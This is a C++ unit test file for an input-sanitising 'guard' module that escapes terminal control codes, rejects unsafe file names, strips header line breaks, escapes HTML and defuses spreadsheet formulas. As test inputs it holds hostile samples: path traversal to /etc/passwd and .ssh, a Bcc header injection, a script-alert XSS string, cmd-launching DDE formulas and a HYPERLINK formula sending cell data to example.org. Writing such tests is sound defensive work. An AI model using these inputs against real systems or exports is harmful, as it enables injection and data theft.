/// The one guard: for each way in which a text could mean more than itself.
#include "gateway/guard.h"

namespace {
using namespace gateway;

TEST(Guard, NothingMovesTheCursorOfATerminal) {
    EXPECT_EQ("plain é €", guard::line("plain é €"));
    EXPECT_EQ("a\\x1B[2Jb\\x00\\x07\\x7F", guard::line(std::string("a\x1B[2Jb\0\a\x7F", 9)));
    EXPECT_EQ("\\x9B31m", guard::line("\xC2\x9B"
                                      "31m"))
        << "CSI of eight bits";
    EXPECT_EQ("a⏎b⏎c⏎d", guard::line("a\nb\r\nc\rd")) << "no second line of a log";
    EXPECT_EQ("\\u202Egnp.exe\\u2066", guard::line("\u202Egnp.exe\u2066")) << "no text backwards";
    EXPECT_EQ(
        "a\xEF\xBF\xBD\xEF\xBF\xBD"
        "b",
        guard::line("a\xC0\xAF"
                    "b"))
        << "overlong";
    EXPECT_EQ("\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD", guard::line("\xED\xA0\x80"))
        << "a half of a pair";
    EXPECT_EQ("abc…", guard::line("abcdef", 3));
    EXPECT_EQ("a…", guard::line("aé", 2)) << "whole characters";
    EXPECT_EQ("abc", guard::line("abc", 3));
}

TEST(Guard, AFileIsNamedInItsFolder) {
    for (const char* const name : {"plans.csv", "a b.csv", "été.json", "x"})
        EXPECT_TRUE(guard::isFileName(name)) << name;
    for (const std::string& name : {std::string(),
                                    std::string("."),
                                    std::string(".."),
                                    std::string("a/b"),
                                    std::string("../a"),
                                    std::string("/etc/passwd"),
                                    std::string("a\\b"),
                                    std::string("C:a"),
                                    std::string("a\0b", 3),
                                    std::string("a\nb"),
                                    std::string("\x1B[31m"),
                                    std::string(".htaccess"),
                                    std::string("a."),
                                    std::string(" a"),
                                    std::string("a "),
                                    std::string("nul"),
                                    std::string("COM1.csv"),
                                    std::string("a*"),
                                    std::string("a\xFF"),
                                    std::string("\u202E"
                                                "vsc.exe"),
                                    std::string(201, 'a')})
        EXPECT_FALSE(guard::isFileName(name)) << name;
    EXPECT_EQ("plans.csv", guard::fileName("C:\\export\\plans.csv"));
    EXPECT_EQ("passwd", guard::fileName("../../etc/passwd"));
    EXPECT_EQ("plans.csv", guard::fileName("plans.csv"));
    EXPECT_EQ(std::nullopt, guard::fileName("../.."));
    EXPECT_EQ(std::nullopt, guard::fileName("a/"));
    EXPECT_EQ(std::nullopt, guard::fileName("a/.ssh"));
    EXPECT_EQ(std::nullopt, guard::fileName(std::string_view("plans.csv\0.exe", 14)));
}

TEST(Guard, AFieldHasOneLine) {
    EXPECT_TRUE(guard::isFieldValue("a b\tc é"));
    EXPECT_TRUE(guard::isFieldValue(""));
    for (const char* const value : {"a\r\nBcc: b", "a\nb", "a\rb", "a\x1B", " a", "a\t", "a\x7F"})
        EXPECT_FALSE(guard::isFieldValue(value)) << value;
    EXPECT_FALSE(guard::isFieldValue(std::string_view("a\0b", 3)));
    EXPECT_EQ("a  Bcc: b", guard::fieldValue(" a\r\nBcc: b\n"));
    EXPECT_EQ("", guard::fieldValue("\r\n"));
    EXPECT_TRUE(guard::isFieldValue(guard::fieldValue(std::string_view("\0a\0\r\n", 5))));
}

TEST(Guard, MarkupIsShown) {
    EXPECT_EQ("&lt;script&gt;alert(&#39;1&#39;)&lt;/script&gt;",
              guard::markup("<script>alert('1')</script>"));
    EXPECT_EQ("&quot; onload=&quot;x", guard::markup("\" onload=\"x"));
    EXPECT_EQ("&amp;lt;", guard::markup("&lt;"));
    EXPECT_EQ("a\nb\xEF\xBF\xBD\xEF\xBF\xBD", guard::markup(std::string_view("a\nb\x1B\xFF", 5)));
}

TEST(Guard, ASpreadsheetComputesNothing) {
    for (const char* const text :
         {"=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1",
          "=HYPERLINK(\"http://example.org?\"&A1)"}) {
        EXPECT_TRUE(guard::isFormula(text)) << text;
        EXPECT_EQ(std::string("'") + text, guard::asCell(text));
    }
    for (const char* const text :
         {"", "a", "1", "-1", "-3.5", "-3,5", "+33 5 61 00 00 00", "a=b", "O'Neill", "-", " =1"}) {
        EXPECT_FALSE(guard::isFormula(text)) << text;
        EXPECT_EQ(text, guard::asCell(text));
    }
}

TEST(Guard, ACellIsReadBackAsItWas) {
    for (const char* const text :
         {"=1", "'=1", "''=1", "'a", "'", "''", "", "-1", "'-1", "-a", "@", "'@", "plain"}) {
        EXPECT_EQ(text, guard::ofCell(guard::asCell(text))) << text;
        EXPECT_FALSE(guard::isFormula(guard::asCell(text))) << text;
    }
}

}  // namespace
